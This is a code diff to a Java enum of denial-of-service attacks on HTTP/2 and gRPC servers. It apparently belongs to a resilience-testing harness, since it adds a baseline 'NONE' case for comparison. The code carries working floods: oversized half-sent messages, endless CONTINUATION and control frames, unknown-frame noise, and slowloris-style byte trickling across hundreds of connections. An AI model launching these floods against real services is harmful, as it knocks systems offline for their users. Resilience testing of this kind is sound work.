@@ -14,21 +14,29 @@ import java.util.zip.GZIPOutputStream;
 
 /** Attacks that exhaust memory, processor time, connections or threads. */
 public enum Attack {
+    /** Nothing, for comparison. */
+    NONE(EnumSet.allOf(Protocol.class)) {
+        @Override
+        public void start(Attacker attacker) {
+            // The normal client is alone.
+        }
+    },
+
     /** On each of 300 connections a request that is too large, then as many of 60 kB as it takes to reach 1 MB. */
     HALF_SENT(EnumSet.of(Protocol.GRPC)) {
         @Override
         public void start(Attacker attacker) {
             attacker.inParallel(300, connection -> {
                 Frames.Header[] none = {};
-                Attacker.write(connection, new Frames().preface().toBytes());
-                Attacker.write(
+                attacker.write(connection, new Frames().preface().toBytes());
+                attacker.write(
                         connection,
                         new Frames()
                                 .call(1, GET_HOTEL, Frames.NONE, none)
                                 .partOfMessage(1, 1 << 20, 60_000)
                                 .toBytes());
                 for (int stream = 3; stream < 2 * 17; stream += 2) {
-                    Attacker.write(
+                    attacker.write(
                             connection,
                             new Frames()
                                     .call(stream, GET_HOTEL, Frames.NONE)
@@ -45,7 +53,7 @@ public enum Attack {
         @Override
         public void start(Attacker attacker) {
             attacker.inParallel(50, connection -> {
-                Attacker.write(connection, new Frames().preface().toBytes());
+                attacker.write(connection, new Frames().preface().toBytes());
                 byte[] noise = new byte[Frames.MAX_PAYLOAD];
                 for (int stream = 1; attacker.isRunning(); stream += 2) {
                     Frames frames = new Frames().call(stream, GET_HOTEL, Frames.NONE);
@@ -54,7 +62,7 @@ public enum Attack {
                         frames.frame(Frames.DATA, Frames.NONE, stream, new byte[1]);
                         frames.frame(UNKNOWN_TYPE, Frames.NONE, 0, noise);
                     }
-                    Attacker.write(connection, frames.toBytes());
+                    attacker.write(connection, frames.toBytes());
                 }
             });
         }
@@ -117,7 +125,7 @@ public enum Attack {
         @Override
         public void start(Attacker attacker) {
             attacker.inParallel(4, connection -> {
-                Attacker.write(
+                attacker.write(
                         connection,
                         new Frames()
                                 .preface()
@@ -125,7 +133,7 @@ public enum Attack {
                                 .toBytes());
                 byte[] more = repeated(Frames.CONTINUATION, 1, new byte[0]);
                 while (attacker.isRunning()) {
-                    Attacker.write(connection, more);
+                    attacker.write(connection, more);
                 }
             });
         }
@@ -169,7 +177,7 @@ public enum Attack {
                 byte[] garbage = new byte[4_096];
                 ThreadLocalRandom.current().nextBytes(garbage);
                 System.arraycopy(CLIENT_HELLO, 0, garbage, 0, CLIENT_HELLO.length);
-                Attacker.write(connection, garbage);
+                attacker.write(connection, garbage);
                 untilClosed(connection);
             });
         }
@@ -189,7 +197,7 @@ public enum Attack {
         public void start(Attacker attacker) {
             attacker.inParallel(300, connection -> {
                 for (byte next : new Frames().preface().toBytes()) {
-                    Attacker.write(connection, new byte[] {next});
+                    attacker.write(connection, new byte[] {next});
                     Thread.sleep(1_000);
                 }
                 untilClosed(connection);
@@ -246,21 +254,21 @@ public enum Attack {
 
     /** Opens one stream after the other until the connection ends. */
     private static void streams(Attacker attacker, SocketChannel connection, PerStream each) throws IOException {
-        Attacker.write(connection, new Frames().preface().toBytes());
+        attacker.write(connection, new Frames().preface().toBytes());
         for (int stream = 1; attacker.isRunning(); ) {
             Frames frames = new Frames();
             for (int i = 0; i < STREAMS_PER_WRITE; i++, stream += 2) {
                 each.write(frames, stream);
             }
-            Attacker.write(connection, frames.toBytes());
+            attacker.write(connection, frames.toBytes());
         }
     }
 
     private static void control(Attacker attacker, byte[] frames) {
         attacker.inParallel(4, connection -> {
-            Attacker.write(connection, new Frames().preface().toBytes());
+            attacker.write(connection, new Frames().preface().toBytes());
             while (attacker.isRunning()) {
-                Attacker.write(connection, frames);
+                attacker.write(connection, frames);
             }
         });
     }
